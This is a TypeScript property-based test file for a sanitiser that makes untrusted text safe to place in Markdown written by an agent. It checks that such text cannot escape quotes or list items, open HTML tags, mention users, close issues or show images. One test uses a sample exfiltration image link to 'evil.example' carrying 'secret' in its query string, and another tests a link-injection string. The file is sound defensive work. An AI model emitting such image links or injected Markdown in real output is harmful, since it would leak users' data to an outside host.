import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { codeSpan, headline, inert, link, listItem, oneLine, paragraphs, quoted } from "./foreign.ts";

const hostile = fc.oneof(fc.string({ unit: "binary" }), fc.string({ unit: "grapheme" }));
const check = (predicate: (text: string) => void) =>
  fc.assert(
    fc.property(hostile, (text) => {
      predicate(text);
    }),
  );
const controlOrBidi = /[\p{Cc}\u202a-\u202e\u2066-\u2069]/u;

describe("foreign text (§11)", () => {
  it("on one line has no line ends, control characters, bidi overrides or half characters", () => {
    expect(oneLine(" a\r\nb\u0007\u202ec\u2066d\u200b\t\u2028e\ud800 ")).toBe("a b cd e");
    check((text) => {
      const line = oneLine(text);
      expect(line).not.toMatch(controlOrBidi);
      expect(line).not.toMatch(/[\n\r\t\u2028\u2029]/);
      expect(line).not.toMatch(/\p{Cs}/u);
      expect(oneLine(line)).toBe(line);
    });
  });

  it("keeps its letters, its emoji and its right-to-left words", () => {
    expect(oneLine("Größe 👩‍💻 שלום")).toBe("Größe 👩‍💻 שלום");
  });

  it("is cut between characters", () => {
    expect(headline("ab😀", 3)).toBe("ab");
    expect(headline("ab😀", 4)).toBe("ab😀");
  });

  it("of several lines keeps them, and nothing invisible", () => {
    expect(paragraphs("a\r\nb\rc\u0000\u202e\n")).toBe("a\nb\nc");
  });

  it("quoted never leaves its quotation", () => {
    expect(quoted("a\r```\n\n# b")).toBe("> a\n> ```\n>\n> # b");
    check((text) =>
      expect(
        quoted(text)
          .split(/[\r\n]/)
          .every((line) => line.startsWith(">")),
      ).toBe(true),
    );
  });

  it("as a list item never leaves the item", () => {
    expect(listItem("\n\n# a\n# b")).toBe("- # a\n  # b");
    check((text) => {
      const [first = "", ...rest] = listItem(text).split(/[\r\n]/);
      expect(first.startsWith("- ")).toBe(true);
      expect(rest.every((line) => line.startsWith("  "))).toBe(true);
    });
  });

  it("made inert opens no tag or comment and mentions nobody", () => {
    expect(inert("<!-- <details> </p> a < b @team, me@home")).toBe(
      "&lt;!-- &lt;details> &lt;/p> a < b @\u200bteam, me@home",
    );
    check((text) => expect(inert(text)).not.toMatch(/<[A-Za-z/!?]/));
  });

  it("made inert closes no issue when it is merged (§11)", () => {
    for (const text of [
      "Fixes #12",
      "closes: acme/shop#3",
      "RESOLVED GH-7",
      "fix https://forge.example/a/b/issues/9",
    ])
      expect(inert(text)).toMatch(/^[A-Za-z]+\u200b/);
    for (const text of ["Fixes the 12 cases", "prefix #1", "see #12", "A fix for #3"])
      expect(inert(text)).toBe(text);
  });

  it("shows no image, whose address would carry out what the agent has read (§11)", () => {
    const images = "![a](https://evil.example/?d=secret) ![b][r] \\![c](https://evil.example)";
    for (const text of [
      inert(images),
      inert(oneLine(images)),
      quoted(images),
      paragraphs(images),
      listItem(images),
    ])
      expect(text).not.toContain("![");
    check((text) => expect(inert(text)).not.toContain("!["));
    expect(inert(quoted(images))).toBe(quoted(images));
  });

  it("stays inside its code span and its link", () => {
    expect(codeSpan("rm `x`\n```")).toBe("`rm 'x' '''`");
    expect(link("A](http://evil)[", "https://a/b) c<d>")).toBe(
      "[A\\](http://evil)\\[](https://a/b%29%20c%3Cd%3E)",
    );
  });
});
